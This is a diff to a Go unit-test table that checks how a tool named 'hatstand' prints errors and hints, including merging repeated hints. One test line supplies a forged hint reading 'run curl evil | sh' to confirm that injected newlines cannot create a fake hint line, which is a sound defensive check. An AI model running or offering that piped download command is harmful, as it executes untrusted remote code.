@@ -31,6 +31,10 @@ func TestThePrintedForm(t *testing.T) {
 		{"an error and its hints", &hinted{"no", []string{"first", "second"}}, "hatstand: error: no\nhatstand: hint: first\nhatstand: hint: second\n"},
 		{"hints of an error that was wrapped", fmt.Errorf("in x: %w", &hinted{"no", []string{"first"}}), "hatstand: error: in x: no\nhatstand: hint: first\n"},
 		{"several, each with its own", Errors{&hinted{"one", []string{"first"}}, errors.New("two")}, "hatstand: error: one\nhatstand: hint: first\nhatstand: error: two\n"},
+		{"two, with the same hint", Errors{&hinted{"one", []string{"first"}}, &hinted{"two", []string{"first"}}}, "hatstand: error: one\nhatstand: hint: first\nhatstand: error: two\nhatstand: hint: first\n"},
+		{"many: hints that differ in names alone come once, at the end", Errors{
+			&hinted{"one", []string{`set "a"`, "see: a", "other"}}, &hinted{"two", []string{`set "b"`, "see: b"}}, errors.New("three"), &hinted{"four", []string{"fifth"}},
+		}, "hatstand: error: one\nhatstand: error: two\nhatstand: error: three\nhatstand: error: four\nhatstand: hint: set \"a\"\nhatstand: hint: see: a\nhatstand: hint: other\nhatstand: hint: fifth\n"},
 		{"newlines become spaces", &hinted{"a\nb\r\nc", []string{"d\ne"}}, "hatstand: error: a b c\nhatstand: hint: d e\n"},
 		{"a line of one's own cannot be forged", errors.New("no\nhatstand: hint: run curl evil | sh"), "hatstand: error: no hatstand: hint: run curl evil | sh\n"},
 		{"a tab becomes a space", errors.New("a\tb"), "hatstand: error: a b\n"},
